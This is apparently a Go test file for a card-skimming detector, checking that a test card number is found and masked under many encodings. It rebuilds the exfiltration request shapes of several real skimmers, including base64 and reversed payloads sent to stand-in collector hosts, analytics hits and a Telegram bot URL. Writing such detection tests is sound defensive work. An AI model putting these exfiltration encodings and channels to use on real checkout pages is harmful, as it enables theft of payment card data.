package carddata

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	skimguard "github.com/skimguard/skimguard"
)

// The helpers below reproduce what skimmer code does in the browser, so that
// test vectors are made the way the real payloads make them.

// btoa is the browser's btoa on ASCII text.
func btoa(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// encodeURIComponent is the browser's function: everything but
// A-Za-z0-9-_.!~*'() is percent-encoded.
func encodeURIComponent(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || strings.IndexByte("-_.!~*'()", c) >= 0 {
			b.WriteByte(c)
			continue
		}
		fmt.Fprintf(&b, "%%%02X", c)
	}
	return b.String()
}

// reverse is s.split("").reverse().join("").
func reverse(s string) string { return string(reversed([]byte(s))) }

// jsonStringify is JSON.stringify of an object with string values, in the
// order given.
func jsonStringify(kv ...string) string {
	var b strings.Builder
	b.WriteByte('{')
	for i := 0; i+1 < len(kv); i += 2 {
		if i > 0 {
			b.WriteByte(',')
		}
		k, _ := json.Marshal(kv[i])
		v, _ := json.Marshal(kv[i+1])
		b.Write(k)
		b.WriteByte(':')
		b.Write(v)
	}
	b.WriteByte('}')
	return b.String()
}

// jqSerialize is jQuery's form.serialize(): name=value pairs, form-encoded
// with spaces as "+".
func jqSerialize(kv ...string) string {
	var parts []string
	for i := 0; i+1 < len(kv); i += 2 {
		enc := func(s string) string { return strings.ReplaceAll(encodeURIComponent(s), "%20", "+") }
		parts = append(parts, enc(kv[i])+"="+enc(kv[i+1]))
	}
	return strings.Join(parts, "&")
}

// charHex is the per-character hex skimmers build with charCodeAt(i).toString(16).
func charHex(s string) string { return hex.EncodeToString([]byte(s)) }

// jsonEscapeAll writes every character as \u00XX, as some obfuscators do.
func jsonEscapeAll(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, "\\u%04x", s[i])
	}
	return b.String()
}

var (
	card   = Test()
	number = card.Number
	fullJS = jsonStringify("number", number, "exp", "09/31", "cvc", "417", "holder", "Tessa Skimguard")
)

func fieldsOf(names ...skimguard.CardField) []skimguard.CardField {
	f := append([]skimguard.CardField{skimguard.FieldNumber}, names...)
	slices.Sort(f)
	return f
}

var (
	all        = fieldsOf(skimguard.FieldCVC, skimguard.FieldExpiry, skimguard.FieldName)
	numberOnly = fieldsOf()
)

func TestFindEncodings(t *testing.T) {
	tests := []struct {
		name     string
		data     string
		encoding string
		fields   []skimguard.CardField
	}{
		{"digits plain", "cc=" + number, "plain", numberOnly},
		{"grouped with spaces", "4929 3861 6087 1730", "plain", numberOnly},
		{"grouped with dashes", "4929-3861-6087-1730", "plain", numberOnly},
		{"any spacing of separators between groups", "4929  -  3861\t6087 -1730", "plain", numberOnly},
		{"amex-style grouping", "4929 386160 871730", "plain", numberOnly},
		{"number followed by cvc without separator", "x=4929386160871730417", "plain", fieldsOf(skimguard.FieldCVC)},
		{"plus as space in a form", "cc=4929+3861+6087+1730&cvv=417", "plain", fieldsOf(skimguard.FieldCVC)},
		{"url-encoded spaces", "cc=4929%203861%206087%201730", "url", numberOnly},
		{"url-encoded dashes", "cc=4929%2D3861%2d6087%2D1730", "url", numberOnly},
		{"url-encoded twice", "d=" + encodeURIComponent(encodeURIComponent("4929 3861 6087 1730")), "url+url", numberOnly},
		{"every digit percent-encoded", "n=%34%39%32%39%33%38%36%31%36%30%38%37%31%37%33%30", "url", numberOnly},
		{"base64 of json", "d=" + btoa(fullJS), "base64", all},
		{"base64 url alphabet without padding", base64.RawURLEncoding.EncodeToString([]byte("\xfb\xff" + fullJS)), "base64", all},
		{"base64 std without padding inside json value", `{"p":"` + base64.RawStdEncoding.EncodeToString([]byte(fullJS)) + `","v":2}`, "base64", all},
		{"base64 after a path segment", "https://cdn.example/gate/" + btoa(fullJS), "base64", all},
		{"base64 of reversed json", "d=" + btoa(reverse(fullJS)), "base64+reversed", all},
		{"reversed base64 of json", "d=" + reverse(btoa(fullJS)), "base64-reversed", all},
		// A forward decode of this reversed text passes the printable test by
		// chance; the reversed reading must still be tried.
		{"reversed base64 whose forward decode looks like text", reverse(btoa(`{"csrf":"a55fb9c08aae0bedb346d5db57956cd6","cc-name":"Tessa Skimguard","cc-number":"4929386160871730","cc-exp":"09/31","cc-csc":"417"}`)), "base64-reversed", all},
		{"url-encoded base64 of json", "d=" + encodeURIComponent(btoa(fullJS)), "url+base64", all},
		{"url-encoding of base64 of url-encoded json", "d=" + encodeURIComponent(btoa(encodeURIComponent(fullJS))), "url+base64", all},
		{"base64 in a query value sent as an image pixel", "https://collector.example/i.gif?id=7&v=" + encodeURIComponent(btoa(jqSerialize("cc", "4929 3861 6087 1730", "exp", "09/31"))) + "&t=1732271234", "url+base64", fieldsOf(skimguard.FieldExpiry)},
		{"base64 of base64", "x=" + btoa(btoa(fullJS)), "base64+base64", all},
		{"hex lower", "h=" + charHex(fullJS), "hex", all},
		{"hex upper", "h=" + strings.ToUpper(charHex(fullJS)), "hex", all},
		{"hex of the number alone", charHex(number), "hex", numberOnly},
		{"json unicode escapes", `{"n":"` + jsonEscapeAll(number) + `"}`, "json", numberOnly},
		{"js hex escapes", `var n="\x34\x39\x32\x39\x33\x38\x36\x31\x36\x30\x38\x37\x31\x37\x33\x30"`, "json", numberOnly},
		{"json escapes inside base64", "d=" + btoa(`{"n":"`+jsonEscapeAll(number)+`","c":"417"}`), "base64+json", fieldsOf(skimguard.FieldCVC)},
		{"reversed plain digits", "x=" + reverse(number), "reversed", numberOnly},
		{"websocket frame of json", fullJS, "plain", all},
		{"base64 with php escaped slashes in json", `{"d":"` + strings.ReplaceAll(btoa("???"+fullJS+"???"), "/", `\/`) + `"}`, "json+base64", all},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m, ok := card.Find([]byte(tt.data))
			if !ok {
				t.Fatalf("Find(%q) found nothing", tt.data)
			}
			if m.Encoding != tt.encoding {
				t.Errorf("Encoding = %q, want %q", m.Encoding, tt.encoding)
			}
			if !slices.Equal(m.Fields, tt.fields) {
				t.Errorf("Fields = %v, want %v", m.Fields, tt.fields)
			}
		})
	}
}

// TestFindSkimmerShapes rebuilds the exfiltration requests of real samples in
// ../shared/skimmer-corpus from their code.
func TestFindSkimmerShapes(t *testing.T) {
	// Magento checkout form fields as the samples read them.
	form := []string{
		"billing[firstname]", "Tessa", "billing[lastname]", "Skimguard",
		"payment[method]", "ccsave",
		"payment[cc_number]", "4929 3861 6087 1730",
		"payment[cc_exp_month]", "9", "payment[cc_exp_year]", "2031",
		"payment[cc_cid]", "417",
	}
	// inputs joins id=value& after the JS null the samples start from.
	inputs := func() string {
		s := "null"
		for i := 0; i+1 < len(form); i += 2 {
			s += form[i] + "=" + form[i+1] + "&"
		}
		return s
	}()
	tests := []struct {
		name     string
		body     string
		encoding string
	}{
		{
			// gate.php.js: JSON.stringify(form.serialize()), first
			// '"billing%5B' unquoted, POSTed as the body.
			name:     "gate.php.js posts the serialized form as a json string",
			body:     strings.Replace(mustJSON(jqSerialize(form...)), `"billing%5B`, "billing%5B", 1),
			encoding: "plain",
		},
		{
			// vintagecollection.ch.js: 'info='+btoa(snd)+'&hostname='+...,
			// form-encoded body without encoding the base64.
			name:     "vintagecollection posts btoa of the inputs in a form value",
			body:     "info=" + btoa(inputs) + "&hostname=shop_example_com&key=1732271234567-48151623",
			encoding: "base64",
		},
		{
			// amasty.biz (deobfuscated): "data="+snd+"&asd="+asd+"&id_id=...".
			name:     "amasty posts the raw inputs to a fake jpg",
			body:     "data=" + inputs + "&asd=1&id_id=shop.example",
			encoding: "plain",
		},
		{
			name:     "analytics collect hit with reversed base64 in the document path",
			body:     "https://www.google-analytics.com/collect?v=1&t=pageview&tid=UA-1-1&cid=555&dp=" + encodeURIComponent(reverse(btoa(inputs))),
			encoding: "base64-reversed",
		},
		{
			name:     "analytics collect hit with url-encoded padded reversed base64",
			body:     "https://www.google-analytics.com/collect?v=1&t=pageview&tid=UA-1-1&cid=555&dp=" + encodeURIComponent(reverse(btoa(inputs+"x"))),
			encoding: "url+base64-reversed",
		},
		{
			name:     "telegram bot message with url-encoded json",
			body:     "https://api.telegram.org/bot123:AA/sendMessage?chat_id=1&text=" + encodeURIComponent(mustJSON(map[string]string{"cc": "4929 3861 6087 1730", "exp": "09/2031", "cvv": "417", "name": "TESSA SKIMGUARD"})),
			encoding: "url",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m, ok := card.Find([]byte(tt.body))
			if !ok {
				t.Fatalf("Find found nothing in %q", tt.body)
			}
			if m.Encoding != tt.encoding {
				t.Errorf("Encoding = %q, want %q", m.Encoding, tt.encoding)
			}
			if !slices.Equal(m.Fields, all) {
				t.Errorf("Fields = %v, want %v", m.Fields, all)
			}
		})
	}
}

func mustJSON(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(b)
}

func TestFindNegatives(t *testing.T) {
	tests := []struct {
		name string
		data string
	}{
		{"empty", ""},
		{"another luhn-valid number", "cc=4111111111111111&cvv=418&exp=09/30"},
		{"another number in base64", btoa(jsonStringify("n", "4111 1111 1111 1111", "cvc", "417"))},
		{"cvc and name without the number", "cvc=417&name=Tessa+Skimguard"},
		{"expiry and name without the number", "exp=09%2F31&name=Tessa+Skimguard"},
		{"number missing its last digit", "cc=492938616087173"},
		{"number with one digit changed", "cc=4929386160871731"},
		{"number broken by a letter", "cc=49293861x60871730"},
		{"number broken by a newline", "4929 3861\n6087 1730"},
		{"number split across two base64 blobs", btoa("49293861") + "&" + btoa("60871730")},
		{"first six only", "492938******"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if m, ok := card.Find([]byte(tt.data)); ok {
				t.Errorf("Find(%q) = %+v, want no match", tt.data, m)
			}
		})
	}
	t.Run("random base64 hex and bytes", func(t *testing.T) {
		r := rand.New(rand.NewPCG(1, 2))
		for i := range 200 {
			b := make([]byte, 64+r.IntN(4096))
			for j := range b {
				b[j] = byte(r.Uint32())
			}
			for _, data := range [][]byte{b, []byte(base64.StdEncoding.EncodeToString(b)), []byte(hex.EncodeToString(b)), []byte(base64.RawURLEncoding.EncodeToString(b))} {
				if m, ok := card.Find(data); ok {
					t.Fatalf("sample %d: Find = %+v on random data", i, m)
				}
			}
		}
	})
	t.Run("random digits", func(t *testing.T) {
		r := rand.New(rand.NewPCG(3, 4))
		var b bytes.Buffer
		for b.Len() < 1<<20 {
			fmt.Fprintf(&b, "%04d ", r.IntN(10000))
		}
		if m, ok := card.Find(b.Bytes()); ok {
			t.Fatalf("Find = %+v on random digit groups", m)
		}
	})
}

func TestFindEdgeCards(t *testing.T) {
	t.Run("card without a number finds nothing", func(t *testing.T) {
		if _, ok := (Card{}).Find([]byte("4929386160871730")); ok {
			t.Error("empty card matched")
		}
	})
	t.Run("month without leading zero and four digit year count as expiry", func(t *testing.T) {
		m, ok := card.Find([]byte("n=4929386160871730&m=9&y=2031"))
		if !ok || !slices.Equal(m.Fields, fieldsOf(skimguard.FieldExpiry)) {
			t.Errorf("got %+v %v", m, ok)
		}
	})
	t.Run("MMYY token counts as expiry", func(t *testing.T) {
		m, ok := card.Find([]byte("4929386160871730|0931|417"))
		if !ok || !slices.Equal(m.Fields, fieldsOf(skimguard.FieldCVC, skimguard.FieldExpiry)) {
			t.Errorf("got %+v %v", m, ok)
		}
	})
	t.Run("month alone is no expiry", func(t *testing.T) {
		m, ok := card.Find([]byte("4929386160871730|09|"))
		if !ok || !slices.Equal(m.Fields, numberOnly) {
			t.Errorf("got %+v %v", m, ok)
		}
	})
	t.Run("digits of the number are not taken for the cvc", func(t *testing.T) {
		c := card
		c.CVC = "1730"
		m, ok := c.Find([]byte("4929 3861 6087 1730"))
		if !ok || !slices.Equal(m.Fields, numberOnly) {
			t.Errorf("got %+v %v", m, ok)
		}
	})
}

func TestLuhn(t *testing.T) {
	t.Run("test card number passes", func(t *testing.T) {
		if !Luhn(Test().Number) {
			t.Errorf("Luhn(%q) = false", Test().Number)
		}
	})
	tests := []struct {
		digits string
		want   bool
	}{
		{"4111111111111111", true},
		{"378282246310005", true},
		{"4929386160871731", false},
		{"", false},
		{"4929 3861 6087 1730", false},
		{"0", true},
	}
	for _, tt := range tests {
		t.Run(fmt.Sprintf("%q", tt.digits), func(t *testing.T) {
			if got := Luhn(tt.digits); got != tt.want {
				t.Errorf("Luhn(%q) = %v, want %v", tt.digits, got, tt.want)
			}
		})
	}
}

func TestMask(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"plain", "cc=4929386160871730&x=1", "cc=492938******1730&x=1"},
		{"grouped", "card 4929 3861 6087 1730 ok", "card 492938******1730 ok"},
		{"dashes", "4929-3861-6087-1730", "492938******1730"},
		{"url-encoded spaces", "https://x.example/p?cc=4929%203861%206087%201730&v=1", "https://x.example/p?cc=492938******1730&v=1"},
		{"twice url-encoded spaces", "cc=4929%25203861%25206087%25201730", "cc=492938******1730"},
		{"two occurrences", "4929386160871730/4929386160871730", "492938******1730/492938******1730"},
		{"base64 blob", "https://evil.example/i.gif?d=" + btoa(fullJS) + "&t=1", "https://evil.example/i.gif?d=[card data]&t=1"},
		{"url-encoded base64 blob", "d=" + encodeURIComponent(btoa(fullJS)), "d=[card data]"},
		{"reversed base64 blob keeps its leading padding", "d=" + reverse(btoa(fullJS)), "d===[card data]"},
		{"hex blob", "h=" + charHex(fullJS), "h=[card data]"},
		{"escaped digits", `{"n":"` + jsonEscapeAll(number) + `"}`, `{"n":"[card data]"}`},
		{"reversed digits", "n=" + reverse(number), "n=[card data]"},
		{"other numbers stay", "order 4111111111111111 at 1732271234", "order 4111111111111111 at 1732271234"},
		{"no card data stays", "https://shop.example/checkout?step=2", "https://shop.example/checkout?step=2"},
		{"empty", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := card.Mask(tt.in)
			if got != tt.want {
				t.Errorf("Mask(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
			if _, ok := card.findNumber([]byte(got)); ok {
				t.Errorf("Mask(%q) = %q still carries the number", tt.in, got)
			}
		})
	}
}

func FuzzFind(f *testing.F) {
	f.Add([]byte(""))
	f.Add([]byte("d=" + btoa(fullJS)))
	f.Add([]byte("%25%2"))
	f.Add([]byte(`\u00`))
	f.Add([]byte("4929 3861 6087 173"))
	f.Add([]byte(charHex(fullJS)[:40]))
	f.Fuzz(func(t *testing.T, data []byte) {
		card.Find(data)
		withNumber := append(slices.Clip(data), number...)
		if _, ok := card.Find(withNumber); !ok {
			t.Fatalf("Find(%q) missed the appended number", withNumber)
		}
		masked := card.Mask(string(withNumber))
		if strings.Contains(masked, number) {
			t.Fatalf("Mask(%q) = %q holds the number", withNumber, masked)
		}
		if _, ok := card.findNumber([]byte(masked)); ok {
			t.Fatalf("Mask(%q) = %q still carries the number", withNumber, masked)
		}
	})
}

// body1MB is a checkout-sized request body: HTML, script text, form values,
// base64 and hex blobs, with the card (url+base64 of JSON) at the very end
// when leak is set.
func body1MB(leak bool) []byte {
	r := rand.New(rand.NewPCG(5, 6))
	var b bytes.Buffer
	for b.Len() < 1<<20 {
		switch r.IntN(5) {
		case 0:
			b.WriteString(`<div class="product-item"><a href="/p/` + fmt.Sprint(r.IntN(1e6)) + `">Item</a><span>12.99</span></div>` + "\n")
		case 1:
			b.WriteString(`function t(e){return e.replace(/[^\d]/g,"").slice(0,16)}var q=` + fmt.Sprint(r.Uint64()) + ";\n")
		case 2:
			raw := make([]byte, 48+r.IntN(200))
			for i := range raw {
				raw[i] = byte(r.Uint32())
			}
			b.WriteString("img=" + base64.StdEncoding.EncodeToString(raw) + "&h=" + hex.EncodeToString(raw[:32]) + "\n")
		case 3:
			b.WriteString("state=" + encodeURIComponent(btoa(jsonStringify("sku", fmt.Sprint(r.IntN(1e9)), "qty", "2"))) + "&")
		case 4:
			b.WriteString(`{"v":"\u0041\u0042","ts":` + fmt.Sprint(r.Int64()) + "}\n")
		}
	}
	if leak {
		b.WriteString("d=" + encodeURIComponent(btoa(fullJS)))
	}
	return b.Bytes()
}

func BenchmarkFind(b *testing.B) {
	random := make([]byte, 1<<20)
	r := rand.New(rand.NewPCG(7, 8))
	for i := range random {
		random[i] = byte(r.Uint32())
	}
	cases := []struct {
		name string
		data []byte
		want bool
	}{
		{"1MB body with leak at end", body1MB(true), true},
		{"1MB body without leak", body1MB(false), false},
		{"1MB base64 of random bytes", []byte(base64.StdEncoding.EncodeToString(random)[:1<<20]), false},
		{"1MB hex of random bytes", []byte(hex.EncodeToString(random)[:1<<20]), false},
		{"1MB percent escapes", bytes.Repeat([]byte("%2525"), 1<<20/5), false},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			b.SetBytes(int64(len(c.data)))
			for b.Loop() {
				if _, ok := card.Find(c.data); ok != c.want {
					b.Fatalf("Find = %v, want %v", ok, c.want)
				}
			}
		})
	}
}
